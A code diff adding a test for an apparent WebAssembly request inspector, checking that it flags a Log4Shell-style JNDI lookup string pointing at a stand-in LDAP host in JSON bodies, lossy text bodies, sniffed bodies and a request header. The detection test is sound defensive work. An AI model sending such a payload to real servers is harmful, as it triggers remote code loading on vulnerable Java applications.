@@ -56,3 +56,27 @@ test('the container prefilter keeps exactly the parts inspectAll would keep', as
   const verdicts = cases.map(([href, h]) => parts.inspectAll(wasm, codes, parts.headParts('GET', parts.requestUrl(href), new Headers(h)))?.inspection.verdict ?? 'clean');
   assert.deepEqual(verdicts, ['clean', 'live', 'live', 'live', 'live', 'clean']);
 });
+
+test('bodies go into wasm as bytes: JSON, lossy text, strict sniffing, and the header wins a tie', async () => {
+  const wasm = await loadWasmInNode();
+  const codes = Object.fromEntries(parts.CONTEXTS.map((c) => [c, wasm.inspectContextCode(c)]));
+  const enc = (s) => new TextEncoder().encode(s);
+  const payload = '${jndi:ldap://x.example/a}';
+  const body = async (kind, bytes, ct) => parts.inspectAll(wasm, codes, await parts.bodyParts(kind, bytes, true, ct));
+  // A JSON string with the payload JSON-escaped (`\u0024` is `$`): only the
+  // json-document decoding sees it.
+  const json = await body('json', enc(JSON.stringify({ user: payload }).replace('$', '\\u0024')), 'application/json');
+  assert.equal(json?.part, 'body(json)');
+  assert.equal(json?.inspection.verdict, 'live');
+  // text/plain with an invalid UTF-8 byte before the payload: replaced, as a
+  // non-fatal TextDecoder does, and the payload is still seen.
+  const lossy = Uint8Array.from([...enc('x '), 0xff, ...enc(` ${payload}`)]);
+  assert.equal((await body('text', lossy, 'text/plain'))?.inspection.verdict, 'live');
+  // No content type: inspected only when the bytes are UTF-8.
+  assert.equal((await body('sniff', enc(payload), ''))?.inspection.verdict, 'live');
+  assert.equal(await body('sniff', lossy, ''), null);
+  // Same verdict in a header and in the body: the header, which comes first, is named.
+  const head = parts.headParts('POST', parts.requestUrl('http://app.test/x'), new Headers({ 'x-api-version': payload }));
+  const all = [...head, ...(await parts.bodyParts('text', enc(payload), true, 'text/plain'))];
+  assert.equal(parts.inspectAll(wasm, codes, all)?.part, 'header:x-api-version');
+});
